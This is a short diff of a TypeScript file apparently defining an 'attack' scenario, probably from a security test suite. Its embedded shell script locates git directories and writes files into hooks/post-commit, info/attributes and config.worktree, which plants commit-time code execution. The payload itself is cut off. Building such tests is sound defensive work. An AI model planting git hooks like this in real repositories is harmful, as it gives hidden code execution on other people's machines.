@@ -18,6 +18,7 @@ export const attack: Attack = {
       IFS='
 '
       for d in /git /objects/0/.. $(sed 's/gitdir: //' .git) '${join(target.dir, '.git')}' $(git rev-parse --git-common-dir 2>/dev/null); do
+        [ -d "$d" ] || continue
         for f in hooks/post-commit info/attributes ./config.worktree; do
           mkdir -p "$d/\${f%/*}" 2>/dev/null; cat > "$d/$f" 2>/dev/null <<'END'
 #!/bin/sh
